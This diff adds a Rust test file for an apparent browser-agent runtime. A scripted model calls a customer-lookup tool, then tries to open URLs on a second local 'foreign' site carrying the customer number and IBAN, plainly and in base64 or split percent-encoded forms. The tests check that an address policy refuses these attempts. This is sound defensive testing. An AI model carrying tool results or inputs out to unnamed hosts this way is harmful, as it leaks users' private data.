@@ -1,0 +1,235 @@
+//! A model that carries data of a run to a site that nobody named, by ways on which it composes no address itself or begins
+//! with one. One server at two addresses, which are two sites: what arrives at the second one is recorded.
+
+use std::{
+    net::Ipv4Addr,
+    sync::{
+        Arc, Mutex,
+        atomic::{AtomicUsize, Ordering},
+    },
+};
+
+use async_trait::async_trait;
+use legwork::{
+    StartRequest,
+    protocol::{ActionFailure, Event, EventKind, Step, Workflow},
+    tools::{Tool, ToolError, ToolSpec},
+};
+use serde_json::{Value, json};
+use tokio::{
+    io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader},
+    net::{TcpListener, TcpStream},
+};
+
+use crate::library::{ScriptedModelFn, line, runtime_with};
+
+/// A page of the start site: a number, and forms that lead to pages of the site and to the other one.
+const RECORD: &str = r##"<!doctype html><meta charset=utf-8><title>Record</title><h1>Record</h1><p>Customer number KD-4711-92</p>
+<form action=/comment><label>Comment <input name=c id=c></label><button id=post>Search</button></form>
+<form action=/go><label>Lead <input name=to id=to></label><button id=lead>Go</button></form>
+<form action="%OTHER%/collect" method=post><label>Newsletter <input name=n id=n></label><button id=sub>Subscribe</button></form>
+<form action="%OTHER%/collect"><label>Query <input name=q id=q></label><button id=find>Search all</button></form>
+<form action=/search><label>Words <input name=w id=w></label><button id=own>Search</button>
+  <button id=away formaction="%OTHER%/collect">Search elsewhere</button></form>
+<a id=track href="%OTHER%/track?no=KD-4711-92">Tracking</a>"##;
+
+/// What a page of the start site makes of a comment: its addresses become links.
+const COMMENT: &str = r##"<!doctype html><meta charset=utf-8><title>Comments</title><h1>Comment stored</h1><p id=x></p>
+<p><a id=news href="%OTHER%/news">News</a></p><script>
+const text = new URLSearchParams(location.search).get('c');
+document.getElementById('x').innerHTML = text.replace(/(https?:\/\/\S+)/g, '<a id=made href="$1">$1</a>');</script>"##;
+
+struct Server {
+    port: u16,
+    /// The requests that the other site received.
+    received: Arc<Mutex<Vec<String>>>,
+}
+
+impl Server {
+    async fn start() -> Server {
+        let listener = TcpListener::bind((Ipv4Addr::UNSPECIFIED, 0)).await.unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let received: Arc<Mutex<Vec<String>>> = Arc::default();
+        let log = Arc::clone(&received);
+        tokio::spawn(async move {
+            while let Ok((stream, _)) = listener.accept().await {
+                tokio::spawn(answer(stream, port, Arc::clone(&log)));
+            }
+        });
+        Server { port, received }
+    }
+
+    fn home(&self, path: &str) -> String {
+        format!("http://127.0.0.1:{}{path}", self.port)
+    }
+
+    fn other(&self, path: &str) -> String {
+        format!("http://127.0.0.2:{}{path}", self.port)
+    }
+
+    /// What arrived at the other site since the last call.
+    fn arrived(&self) -> Vec<String> {
+        std::mem::take(&mut *self.received.lock().unwrap())
+    }
+}
+
+async fn answer(stream: TcpStream, port: u16, log: Arc<Mutex<Vec<String>>>) -> Option<()> {
+    let is_other = stream.local_addr().ok()?.ip() == Ipv4Addr::new(127, 0, 0, 2);
+    let mut stream = BufReader::new(stream);
+    let mut line = String::new();
+    stream.read_line(&mut line).await.ok()?;
+    let mut length = 0;
+    loop {
+        let mut header = String::new();
+        if stream.read_line(&mut header).await.ok()? <= 2 {
+            break;
+        }
+        if let Some(value) = header.to_ascii_lowercase().strip_prefix("content-length:") {
+            length = value.trim().parse().ok()?;
+        }
+    }
+    let mut posted = vec![0; length];
+    stream.read_exact(&mut posted).await.ok()?;
+    let (method, path) = line.split_once(' ')?;
+    let path = path.split(' ').next()?;
+    if is_other && path != "/favicon.ico" {
+        log.lock().unwrap().push(format!("{method} {path}"));
+    }
+    let url = url::Url::parse("http://h").ok()?.join(path).ok()?;
+    let mut head = "200 OK".to_owned();
+    let body = match url.path() {
+        "/record" => RECORD,
+        "/comment" => COMMENT,
+        "/go" => {
+            let to = url.query_pairs().find(|(name, _)| name == "to")?.1.into_owned();
+            head = format!("302 Found\r\nLocation: {to}");
+            ""
+        }
+        "/nothing" => {
+            head = "204 No Content".to_owned();
+            ""
+        }
+        _ => "<!doctype html><title>received</title><p>received</p><label>Name <input id=name></label>",
+    };
+    let body = body.replace("%OTHER%", &format!("http://127.0.0.2:{port}"));
+    let head = format!(
+        "HTTP/1.1 {head}\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: {}\r\n\r\n",
+        body.len()
+    );
+    stream.write_all(format!("{head}{body}").as_bytes()).await.ok()
+}
+
+/// A tool that finds a customer.
+struct FindsCustomer;
+
+#[async_trait]
+impl Tool for FindsCustomer {
+    fn spec(&self) -> ToolSpec {
+        let parameters = json!({"type": "object", "properties": {}});
+        ToolSpec { name: "crm_find".to_owned(), about: "Finds a customer".to_owned(), parameters, reads: true }
+    }
+
+    async fn call(&self, _: Value) -> Result<Value, ToolError> {
+        Ok(json!({"number": "KD-4711-92", "iban": "AT611904300234573201"}))
+    }
+}
+
+/// What refused the commands of a model that gives them in this order: the rule, or the failure. `ok` if nothing did.
+async fn commands(words: &str, url: Option<String>, inputs: &[(&str, &str)], commands: &[String]) -> Vec<String> {
+    let folder = tempfile::tempdir().unwrap();
+    let runtime =
+        runtime_with(&folder, &[("timeouts.element", "800ms"), ("limits.max_consecutive_errors", "90")]).await;
+    let (next, said) = (AtomicUsize::new(0), commands.to_vec());
+    let model = ScriptedModelFn(move |prompt: &str| {
+        // After refusals, the model is asked whether to go on.
+        if prompt.contains("planHolds") {
+            return json!({"verdict": "PROCEED", "risk": "LOW", "thought": "x", "planHolds": true});
+        }
+        match said.get(next.fetch_add(1, Ordering::Relaxed)) {
+            Some(command) => line(command),
+            None => line("done \"over\""),
+        }
+    });
+    let declared = inputs.iter().map(|(name, _)| ((*name).to_owned(), serde_json::from_value(json!({})).unwrap()));
+    let workflow = Workflow {
+        name: "carry".into(),
+        inputs: declared.collect(),
+        steps: vec![Step::new(words)],
+        url,
+        ..Workflow::default()
+    };
+    let request = StartRequest {
+        model: Some(Arc::new(model)),
+        tools: vec![Arc::new(FindsCustomer)],
+        inputs: inputs.iter().map(|(name, value)| ((*name).to_owned(), Value::from(*value))).collect(),
+        ..StartRequest::task(workflow)
+    };
+    let run = runtime.start(request).await.unwrap();
+    let id = run.id();
+    run.outcome().await;
+    let events = runtime.log().read(id, 1).await.unwrap();
+    runtime.close().await;
+    let of = |event: &Event| match &event.kind {
+        EventKind::CommandFailed { result, .. } => Some(match &result.failure {
+            Some(ActionFailure::PolicyRefused { rule, .. }) => rule.clone(),
+            other => format!("{other:?}"),
+        }),
+        EventKind::CommandCompleted { .. } => Some("ok".to_owned()),
+        _ => None,
+    };
+    events.iter().filter_map(of).collect()
+}
+
+fn open(address: &str) -> String {
+    format!("open \"{address}\"")
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_a_tool_returned_or_an_input_does_not_go_into_the_first_address() {
+    let server = Server::start().await;
+    let refused = "default:address";
+    let told = commands(
+        "Find the customer Ada",
+        None,
+        &[],
+        &[
+            "call crm_find".to_owned(),
+            open(&server.other("/echo?x=KD-4711-92+AT611904300234573201")),
+            open(&server.other("/nothing?x=KD-4711-92")),
+            format!("tab open \"{}\"", server.other("/echo")),
+        ],
+    )
+    .await;
+    assert_eq!(told, ["ok", refused, refused, refused]);
+    assert_eq!(server.arrived(), [""; 0]);
+
+    let told = commands(
+        "Find the order",
+        None,
+        &[("order", "KD-4711-92")],
+        &[
+            open(&server.other("/echo?x=S0QtNDcxMS05Mg")),
+            open(&server.other("/echo?x=KD%2D47&y=11%2D92")),
+            open(&server.other("/S0QtNDcxMS05Mg")),
+            open(&server.other("/nothing?q=order")),
+            open(&server.other("/nothing?q=find")),
+        ],
+    )
+    .await;
+    assert_eq!(told[..3], [refused; 3], "{told:?}");
+    assert_eq!(told.last().unwrap(), refused, "{told:?}");
+    assert_eq!(server.arrived(), ["GET /nothing?q=order"], "the exception is used up");
+
+    let told = commands(
+        "Find the weather",
+        None,
+        &[],
+        &[
+            open(&server.home("/search?q=weather")),
+            "fill #name \"Ada\"".to_owned(),
+            open(&server.other("/search?q=weather")),
+        ],
+    )
+    .await;
+    assert_eq!(told, ["ok", "ok", refused], "a run without an address begins where the model says");
+}
